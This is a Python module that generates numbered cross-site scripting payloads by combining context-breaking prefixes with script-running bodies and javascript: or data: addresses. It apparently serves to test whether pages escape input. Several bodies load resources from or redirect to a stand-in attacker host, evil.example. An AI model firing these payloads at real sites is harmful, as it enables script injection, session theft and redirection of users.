"""Words that would run as a script wherever a page forgot to escape them; each says its number.

In: how many. Out: payloads. `{}` is what a browser that runs one does.
"""

from __future__ import annotations

from itertools import product

RUNS = "window.__hit={}"
BREAKS = (
    "", '"', "'", '">', "'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>",
    "</text></svg>", "`", "\\\"", "&quot;>", "&#34;&gt;", "\u2028", "\x0b", "</option></select>",
)  # fmt: skip
"""What ends the place that the words stand in."""
BODIES = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}'>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}>",
    "<iframe srcdoc='<script>parent.{}</script>'>",
    "<iframe src='javascript:parent.{}'>",
    "<a href='javascript:{}'>x</a>",
    "<math><mtext><img src=x onerror={}>",
    "<style>@import 'https://evil.example/'</style>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button>x",
    "<object data=https://evil.example/></object>",
    " onmouseover={} autofocus onfocus={} x=",
    " style=background:url(https://evil.example/) ",
    "[x](javascript:{})",
    "![x](https://evil.example/a.png)",
    "javascript:{}",
    "{{{{ 7 * 7 }}}}{{% raw %}}",
    "\u202e<b>\u200b</b>\u0000",
)
ADDRESSES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "java\tscript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    'https://a.example/"onmouseover="{}',
    "https://a.example/'><script>{}</script>",
    "//evil.example/{}",
    "https://user:pass@evil.example/<svg onload={}>",
)


def payloads() -> list[str]:
    """All ways out of a place with all that may follow."""
    return [
        (before + body).format(*[RUNS.format(number)] * 2)
        for number, (before, body) in enumerate(product(BREAKS, BODIES))
    ]


def addresses() -> list[str]:
    return [one.format(RUNS.format(number)) for number, one in enumerate(ADDRESSES, 10_000)]
